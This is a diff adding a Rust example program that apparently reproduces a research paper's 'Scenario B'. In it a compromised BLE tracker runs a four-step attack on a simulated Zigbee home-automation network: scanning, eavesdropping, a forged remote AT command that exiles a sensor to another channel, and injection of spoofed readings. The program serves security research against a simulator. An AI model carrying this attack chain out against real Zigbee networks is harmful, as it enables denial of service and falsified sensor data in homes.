@@ -1,0 +1,68 @@
+//! Scenario B (paper §VI-C): a compromised BLE tracker (nRF51822, no LE 2M —
+//! Enhanced ShockBurst 2 Mbit/s instead) runs a four-step attack against a
+//! Zigbee home-automation network.
+//!
+//! Run with: `cargo run -p wazabee-examples --bin tracker_attack`
+
+use wazabee::TrackerAttack;
+use wazabee_chips::nrf51822;
+use wazabee_examples::banner;
+use wazabee_radio::{Link, LinkConfig};
+use wazabee_zigbee::ZigbeeNetwork;
+
+fn main() {
+    banner("Scenario B — complex Zigbee attack from a BLE tracker");
+    let caps = nrf51822();
+    println!(
+        "attacker chip: {} (LE 2M: {}, ESB 2M: {}) — flashed via unprotected SWD pins",
+        caps.name, caps.le_2m, caps.esb_2m
+    );
+
+    let mut net = ZigbeeNetwork::paper_testbed();
+    println!("victim: PAN 0x1234 on channel 14 — sensor 0x0063 reports every 2 s to coordinator 0x0042");
+
+    let mut attack = TrackerAttack::new(8).expect("ESB is 2 Mbit/s");
+    let mut link = Link::new(LinkConfig::office_3m(), 7);
+
+    banner("step 1 — active scanning");
+    let pan = attack
+        .active_scan(&mut net, &mut link)
+        .expect("no coordinator found");
+    println!(
+        "beacon heard on {}: PAN 0x{:04X}, coordinator 0x{:04X}",
+        pan.channel, pan.pan, pan.coordinator
+    );
+
+    banner("step 2 — eavesdropping");
+    let sensor = attack
+        .eavesdrop(&mut net, &mut link, pan, 8_000)
+        .expect("no sensor traffic heard");
+    println!("sensor address learned from sniffed data frame: 0x{sensor:04X}");
+    let legit_before = net.coordinator().readings().len();
+    println!("coordinator display currently shows {legit_before} legitimate readings");
+
+    banner("step 3 — remote AT command injection (denial of service)");
+    let ok = attack.inject_remote_at(&mut net, &mut link, pan, sensor);
+    println!(
+        "forged remote AT 'CH {}' from 0x{:04X} to 0x{:04X}: {}",
+        attack.dos_channel.number(),
+        pan.coordinator,
+        sensor,
+        if ok { "ACKNOWLEDGED — sensor exiled" } else { "failed" }
+    );
+
+    banner("step 4 — fake data injection");
+    let accepted = attack.inject_fake_readings(&mut net, &mut link, pan, sensor, 1337, 8, 500);
+    println!("{accepted}/8 spoofed readings accepted by the coordinator");
+
+    banner("result");
+    let readings = net.coordinator().readings();
+    println!("coordinator display ({} readings):", readings.len());
+    for r in readings.iter().rev().take(10).collect::<Vec<_>>().iter().rev() {
+        println!("  {}  value {:5}  from 0x{:04X}", r.time, r.value, r.reported_by);
+    }
+    println!(
+        "the tail values are the attacker's — the real sensor now idles on {}",
+        attack.dos_channel
+    );
+}
